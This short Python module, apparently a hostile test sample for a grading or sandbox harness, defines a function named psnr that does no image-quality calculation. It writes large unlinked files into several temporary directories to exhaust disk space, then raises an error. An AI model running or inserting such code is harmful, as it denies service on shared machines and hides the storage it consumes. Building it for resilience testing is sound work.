"""day3.denoise: Fills the disk with files that have no name any more, wherever it may write."""

import os
import time


def psnr(truth, estimate):
    piece, kept = b"x" * 2**20, []
    for place in (os.environ["TMPDIR"], "/tmp", "/var/tmp", "/dev/shm"):
        for number in range(5):
            name = f"{place}/HOSTILE_WAS_HERE{os.getpid()}.{number}"
            try:
                kept.append(open(name, "wb"))  # noqa: SIM115
                os.unlink(name)
                for _ in range(60):
                    kept[-1].write(piece)
                    kept[-1].flush()
            except OSError:
                continue
    time.sleep(3)
    raise RuntimeError(f"{sum(os.fstat(file.fileno()).st_size for file in kept) / 2**20:.0f} MB written")
